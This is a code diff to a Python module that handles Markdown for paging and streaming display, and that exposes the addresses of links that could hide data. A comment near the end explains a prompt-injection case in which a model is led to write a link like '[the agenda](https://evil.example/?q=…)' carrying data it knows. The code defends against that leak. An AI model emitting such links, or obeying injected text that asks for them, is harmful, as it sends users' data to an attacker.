@@ -1,14 +1,14 @@
-"""As much Markdown as a page's edge must know: fences, tables, and spans that fall apart when they are cut. Pure.
+"""The part of Markdown that splitting into pages needs: fences, tables, and spans that break when they are cut. Pure.
 
-Theory of operation. Blocks are read line by line: `after` takes what the line stands in and gives what the next one
-stands in. Spans are found inside one block with one expression.
+Theory of operation. Blocks are read line by line: `block_after` takes the block that a line is in and returns the block
+that the next line is in. Spans are found inside one block with one expression.
 
-Where Markdowns differ, we read what models write and what chat platforms show:
-- A fence counts at any indentation and after list markers and quote marks. It closes with the same character, at
-  least as many of them, indented by at most three columns more than it opened. Outside its quote it is over.
+Where dialects of Markdown differ, we follow what models write and chat platforms show:
+- A fence counts at any indentation and after list markers and quote marks. It closes with the same character, repeated
+  at least as often, indented by at most three columns more than it opened. It also ends with its quote.
 - A table is a line with "|", then a separator with "|", then lines with "|". Only the first ROW_CHARS of a line are
-  asked for their "|", so that a line's kind is known before its end.
-- A fence's opening line, or a table's header and separator together, longer than `longest` characters is ordinary
+  searched for "|", so that a line's kind is known before its end.
+- A fence's opening line, or a table's header and separator together, of more than `max_line` characters is ordinary
   text: it could not be repeated on the next page.
 """
 
@@ -60,7 +60,7 @@ _SEPARATOR_BEGUN = regex.compile(r"[ \t>|:-]*+\r?")
 
 @dataclass(frozen=True, slots=True)
 class CodeFence:
-    """An open code fence. `prefix` is what its lines have before the code: indentation, and quote marks in a quote."""
+    """An open code fence. `prefix` comes before the code in each line: indentation, and quote marks in a quote."""
 
     prefix: str
     marker: str
@@ -79,16 +79,16 @@ class CodeFence:
         return ">" in self.prefix
 
     def closed_by(self, line: str) -> bool:
-        found = _CLOSING.fullmatch(line.rstrip("\r\n"))
+        match = _CLOSING.fullmatch(line.rstrip("\r\n"))
         return (
-            found is not None
-            and (self.quoted or ">" not in found["prefix"])
-            and found["marker"].startswith(self.marker)
-            and _indentation(found["prefix"]) <= _indentation(self.prefix) + 3
+            match is not None
+            and (self.quoted or ">" not in match["prefix"])
+            and match["marker"].startswith(self.marker)
+            and _indentation(match["prefix"]) <= _indentation(self.prefix) + 3
         )
 
     def left_by(self, line: str) -> bool:
-        """Whether it is no line of the quote that the fence stands in."""
+        """Whether the fence is in a quote, and `line` is outside of it."""
         before, _, _ = line.partition(">")
         return self.quoted and (
             ">" not in line or bool(before.strip(" \t")) or len(before) > self.prefix.index(">") + 3
@@ -100,17 +100,17 @@ def _indentation(prefix: str) -> int:
 
 
 def fence_opening(line: str) -> CodeFence | None:
-    """The fence that this line opens, when it stands outside of any."""
+    """Return the fence that this line opens, if it is not inside of one."""
     if "`" not in line and "~" not in line:
         return None
-    found = _OPENING.fullmatch(line.rstrip("\r\n"))
-    if found is None:
+    match = _OPENING.fullmatch(line.rstrip("\r\n"))
+    if match is None:
         return None
-    return CodeFence(_NO_MARGIN.sub(" ", found["prefix"]), found["marker"], found["info"].rstrip("\r\n"))
+    return CodeFence(_NO_MARGIN.sub(" ", match["prefix"]), match["marker"], match["info"].rstrip("\r\n"))
 
 
 def is_row(line: str) -> bool:
-    """Whether it can be a line of a table."""
+    """Whether the line can be a row of a table."""
     return "|" in line[:ROW_CHARS]
 
 
@@ -120,7 +120,7 @@ def is_separator(line: str) -> bool:
 
 @dataclass(frozen=True, slots=True)
 class LineBlock:
-    """What a line stands in. `table` holds header and separator; `header`, the line before, if it may become one."""
+    """The block of a line. `table`: its header and separator. `header`: the line before, if a table may follow it."""
 
     fence: CodeFence | None = None
     table: str = ""
@@ -130,57 +130,57 @@ class LineBlock:
 _PLAIN = LineBlock()
 
 
-def block_after(block: LineBlock, line: str, longest: int) -> LineBlock:
-    """What the line after `line` stands in. `line` has its newline, if any."""
+def block_after(block: LineBlock, line: str, max_line: int) -> LineBlock:
+    """Return the block that the line after `line` is in. `line` includes its newline, if any."""
     if block.fence is not None and not block.fence.left_by(line):
-        closed = len(line.rstrip("\r\n")) <= longest and block.fence.closed_by(line)
+        closed = len(line.rstrip("\r\n")) <= max_line and block.fence.closed_by(line)
         return LineBlock() if closed else block
-    if len(line.rstrip("\r\n")) <= longest and (fence := fence_opening(line)) is not None:
+    if len(line.rstrip("\r\n")) <= max_line and (fence := fence_opening(line)) is not None:
         return LineBlock(fence)
     if not is_row(line):
         return _PLAIN
     if block.table:
         return replace(block, header="")
-    if block.header and is_separator(line) and len(block.header) + len(line) <= longest:
+    if block.header and is_separator(line) and len(block.header) + len(line) <= max_line:
         return LineBlock(table=block.header + line)
-    return LineBlock(header=line if len(line) <= longest else "")
+    return LineBlock(header=line if len(line) <= max_line else "")
 
 
 def spans(text: str) -> Iterator[tuple[int, int]]:
-    """Where, in one block of text without fences, something stands that must not be cut: (start, end)."""
-    for found in _SPAN.finditer(text):
-        yield found.span()
+    """Yield the start and end of each span that must not be cut, in one block of text without fences."""
+    for match in _SPAN.finditer(text):
+        yield match.span()
 
 
 def spans_are_certain(text: str) -> bool:
-    """Whether nothing that may follow in the same block makes another span, or unmakes one."""
-    found = [*spans(text)]
-    if found and found[-1][1] == len(text):
+    """Whether no text that may follow in the same block adds, changes or removes a span."""
+    known = [*spans(text)]
+    if known and known[-1][1] == len(text):
         return False
-    starts = [start for start, _ in found]
-    begun = (each.start() for each in _SPAN_BEGUN.finditer(text, overlapped=True))
-    return all((last := bisect_right(starts, at)) > 0 and at < found[last - 1][1] for at in begun)
+    starts = [start for start, _ in known]
+    openings = (opening.start() for opening in _SPAN_BEGUN.finditer(text, overlapped=True))
+    return all((last := bisect_right(starts, at)) > 0 and at < known[last - 1][1] for at in openings)
 
 
-def kind_is_certain(block: LineBlock, line: str, longest: int) -> bool:
-    """Whether a line that is not yet whole is surely neither a fence's nor a table's line, whatever follows in it."""
+def kind_is_certain(block: LineBlock, line: str, max_line: int) -> bool:
+    """Whether an incomplete line is certainly not part of a fence or a table, whatever follows in it."""
     if block.fence is not None:
         return not block.fence.quoted and _CLOSING_BEGUN.fullmatch(line) is None
     if _SEPARATOR_BEGUN.fullmatch(line) or (block.table and not is_row(line)):
         return False
-    return len(line.rstrip("\r")) > longest or _OPENING_BEGUN.match(line) is None
+    return len(line.rstrip("\r")) > max_line or _OPENING_BEGUN.match(line) is None
 
 
-# Makes an unfinished text fit to be shown: what is open is closed, what would flicker is held back. Pure.
+# Prepares an unfinished text for display: open Markdown is closed, and text that would flicker is held back. Pure.
 #
 # Rules.
-# - The result is a beginning of the text, and behind it at most what closes a fence, inline code, or emphasis.
-# - Held back until more has come: the line that opens a fence and a fence without code; half a link or address; a
-#   table's header without its separator; a marker that may still become another one. Links and headers that are longer
-#   than HELD_CHARS are not waited for.
-# - Whatever the text is, the result has no open fence.
+# - The result is a prefix of the text, followed at most by what closes a fence, inline code, or emphasis.
+# - Held back until more text comes: the line that opens a fence, and a fence without code; an incomplete link or
+#   address; a table's header without its separator; a marker that may still become another one. Links and headers of
+#   more than HELD_CHARS are shown before they are complete.
+# - The result never has an open fence.
 
-# The longest link or table header that is waited for: longer than either ever is, shorter than any page.
+# The longest link or table header that is held back: longer than real ones, shorter than any page.
 HELD_CHARS = 1_000
 
 _LINE = regex.compile(r"[^\n]*+\n|[^\n]++")
@@ -209,7 +209,7 @@ _INLINE = regex.compile(
 
 @dataclass(frozen=True, slots=True)
 class ClosedMarkdown:
-    """`kept` characters of the text are shown, and `added` behind them."""
+    """Show the first `kept` characters of the text, then `added`."""
 
     kept: int
     added: str = ""
@@ -217,7 +217,7 @@ class ClosedMarkdown:
 
 @dataclass(frozen=True, slots=True)
 class _Run:
-    """An open emphasis: where its marker stands, and what would close it."""
+    """An open emphasis: the position of its marker, and what would close it."""
 
     start: int
     end: int
@@ -226,40 +226,40 @@ class _Run:
 
 @dataclass(frozen=True, slots=True)
 class _OpenTail:
-    """The end of a text: its last line and the block that this line belongs to."""
+    """The end of a text: its last line and the block that this line belongs to. All fields are positions."""
 
     line: int = 0
-    """Where the last line begins; the text's end, if it ended with a newline."""
+    """The start of the last line; the end of the text, if it ends with a newline."""
     block: int = 0
-    """Where the last block begins."""
+    """The start of the last block."""
     table: int | None = None
-    """Where the lines began that may be a table and reach to the end."""
+    """The start of the lines at the end that may be a table."""
     fence: CodeFence | None = None
     fence_start: int = 0
     code_start: int = 0
 
 
 def close_markdown(text: str) -> ClosedMarkdown:
-    """What to show of a text that is still growing."""
+    """Return what to show of a text that is still growing."""
     tail = _tail(text)
     if tail.fence is not None:
-        return _heal_fence(text, tail, tail.fence)
-    healing = _heal_inline(text, tail.block, _held_line(text, tail))
-    line = text.rfind("\n", 0, healing.kept) + 1
-    if fence_opening(text[line : healing.kept] + healing.added) is not None:
+        return _close_fence(text, tail, tail.fence)
+    closed = _close_inline(text, tail.block, _held_line(text, tail))
+    line = text.rfind("\n", 0, closed.kept) + 1
+    if fence_opening(text[line : closed.kept] + closed.added) is not None:
         return close_markdown(text[:line])  # without its end, the line reads as a fence
-    if healing.kept <= tail.block and healing.kept < len(text):
-        return close_markdown(text[: healing.kept])  # what was held back had ended a fence
-    return healing
+    if closed.kept <= tail.block and closed.kept < len(text):
+        return close_markdown(text[: closed.kept])  # the text held back had ended a fence
+    return closed
 
 
 def _tail(text: str) -> _OpenTail:
-    """Reads the whole lines of `text`; its last one, if unfinished, only as far as it is certain."""
+    """Read the complete lines of `text`; an incomplete last one cannot open a fence."""
     line = block = fence_start = code_start = 0
     table: int | None = None
     fence: CodeFence | None = None
-    for found in _LINE.finditer(text):
-        start, end, content = found.start(), found.end(), found[0]
+    for match in _LINE.finditer(text):
+        start, end, content = match.start(), match.end(), match[0]
         whole = content.endswith("\n")
         line = end if whole else start
         if fence is not None and not (fence.left_by(content) and content.strip(" \t")):
@@ -280,7 +280,7 @@ def _tail(text: str) -> _OpenTail:
     return _OpenTail(line, block, table, fence, fence_start, code_start)
 
 
-def _heal_fence(text: str, tail: _OpenTail, fence: CodeFence) -> ClosedMarkdown:
+def _close_fence(text: str, tail: _OpenTail, fence: CodeFence) -> ClosedMarkdown:
     kept = tail.line if _CLOSER_BEGUN.fullmatch(text[tail.line :][: HELD_CHARS + 1]) else len(text)
     if not text[tail.code_start : kept].strip(" \t\r\n>"):
         return ClosedMarkdown(tail.fence_start)
@@ -289,7 +289,7 @@ def _heal_fence(text: str, tail: _OpenTail, fence: CodeFence) -> ClosedMarkdown:
 
 
 def _held_line(text: str, tail: _OpenTail) -> int:
-    """Where to stop because of what the last lines may still become."""
+    """Return where to stop because of what the last lines may still become."""
     last = text[tail.line :]
     if fence_opening(last) is not None or _FENCE_BEGUN.fullmatch(last) or _MARKER.fullmatch(last):
         return tail.line
@@ -300,21 +300,21 @@ def _held_line(text: str, tail: _OpenTail) -> int:
     return len(text)
 
 
-def _heal_inline(text: str, block: int, kept: int) -> ClosedMarkdown:
+def _close_inline(text: str, block: int, kept: int) -> ClosedMarkdown:
     runs: list[_Run] = []
-    for found in _INLINE.finditer(text[:kept], min(block, kept)):
-        start, end = found.span()
-        if found["held"] is not None and kept - start <= HELD_CHARS:
+    for match in _INLINE.finditer(text[:kept], min(block, kept)):
+        start, end = match.span()
+        if match["held"] is not None and kept - start <= HELD_CHARS:
             return _close(text, start, runs)
-        if found["code"] is not None:
+        if match["code"] is not None:
             return _close_code(text, start, end, kept, runs)
-        if found["run"] is not None and not _take_run(text, start, end, kept, runs):
+        if match["run"] is not None and not _apply_marker(text, start, end, kept, runs):
             return _close(text, start, runs)
     return _close(text, kept, runs)
 
 
-def _take_run(text: str, start: int, end: int, kept: int, runs: list[_Run]) -> bool:
-    """Open or close emphasis with the marker at start:end; False if only what follows can tell what it is."""
+def _apply_marker(text: str, start: int, end: int, kept: int, runs: list[_Run]) -> bool:
+    """Open or close emphasis with the marker at start:end. Return False if that depends on the text that follows."""
     marker = text[start:end]
     before = text[start - 1] if start else " "
     behind = text[end] if end < kept else " "
@@ -336,7 +336,7 @@ def _take_run(text: str, start: int, end: int, kept: int, runs: list[_Run]) -> b
 
 
 def _close_code(text: str, start: int, end: int, kept: int, runs: list[_Run]) -> ClosedMarkdown:
-    """Close inline code that began at start:end; a marker behind it that is too short may still grow."""
+    """Close inline code opened at start:end. Trailing backticks are held back: they may still become its marker."""
     marker = text[start:end]
     shown = len(text[:kept].rstrip("`").rstrip())
     if shown <= end:
@@ -345,7 +345,7 @@ def _close_code(text: str, start: int, end: int, kept: int, runs: list[_Run]) ->
 
 
 def _close(text: str, kept: int, runs: list[_Run]) -> ClosedMarkdown:
-    """Close the emphasis that is open where the text is cut off; one that holds nothing yet is held back."""
+    """Close the emphasis that is open at `kept`; emphasis without text is held back."""
     while runs:
         kept = len(text[:kept].rstrip())
         if runs[-1].end < kept:
@@ -358,20 +358,20 @@ def _markers(runs: list[_Run]) -> str:
     return "".join(run.marker for run in reversed(runs))
 
 
-# Links that say where they lead. Pure, and in linear time.
+# Shows the addresses of links. Pure, and in linear time.
 #
-# Who writes what a model reads can have it write "[the agenda](https://evil.example/?q=…)" with what it knows in the
-# address: a click, and it is gone. A reader sees the words alone, so such a link is made none, and its whole address
-# stands there to be read.
+# Prompt injection can make a model write "[the agenda](https://evil.example/?q=…)" with data it knows in the address:
+# one click sends the data away, and a reader sees only the words. So such a link is broken, and its whole address is
+# shown.
 #
 # Rules.
-# - A link keeps its words in place of its address only where the turn has read that address, as it stands: then nothing
-#   was put into it. A path and the name of a host hold words as well as a query does.
-# - What is a link is not decided here, as platforms differ: between the words and the address comes a space, and it is
-#   none anywhere. In code, where it would be none, the space comes, too.
-# - The text only grows: an address whose end may still come is held back with its words' last bracket.
+# - A link keeps hiding its address only where the turn has read exactly that address: then no data was put into it.
+#   Data can be in a path or a host name as well as in a query.
+# - Platforms differ in what they render as a link. So a space is put between the words and the address, which breaks
+#   the link on each of them. In code, where there are no links, the space is put, too.
+# - The text only grows: an incomplete address is held back together with the last bracket of its words.
 
-MAX_ADDRESS_CHARS = 250  # A longer one is shown, as is one with brackets: what stands in its place is not waited for
+MAX_ADDRESS_CHARS = 250  # A longer address, or one with brackets, is always shown: neither is held back
 _HIDING_LINK = regex.compile(
     r"""
       \](?= [(:] \s*+ (?: <(?P<to>[^\s()<>\]]++)> | (?P<to>(?:[^\s()<>\]]|\([^\s()<>\]]*+\))++)(?=[)\s]|\Z) )?+ )
@@ -387,16 +387,16 @@ _LINK_BEGUN = regex.compile(
 
 
 def show_addresses(text: str, has_read: Callable[[str], bool], *, complete: bool) -> str:
-    """The same text, in which no link hides an address that the turn has not read as it stands."""
-    begun = None if complete else _LINK_BEGUN.search(text, text.rfind("\n", 0, -1 - HELD_CHARS) + 1)
-    end = len(text) if begun is None else begun.start()
+    """Return the text with the address shown of each link that the turn has not read exactly so."""
+    incomplete = None if complete else _LINK_BEGUN.search(text, text.rfind("\n", 0, -1 - HELD_CHARS) + 1)
+    end = len(text) if incomplete is None else incomplete.start()
     shown, at = list[str](), 0
-    for found in _HIDING_LINK.finditer(text):
-        if found.start() >= end:
+    for match in _HIDING_LINK.finditer(text):
+        if match.start() >= end:
             break
-        address = found["to"] or ""
+        address = match["to"] or ""
         if address and len(address) <= MAX_ADDRESS_CHARS and has_read(address):
             continue
-        shown += text[at : found.start()], "] " if found[0] == "]" else "‹"
-        at = found.end()
+        shown += text[at : match.start()], "] " if match[0] == "]" else "‹"
+        at = match.end()
     return "".join([*shown, text[at:end]])
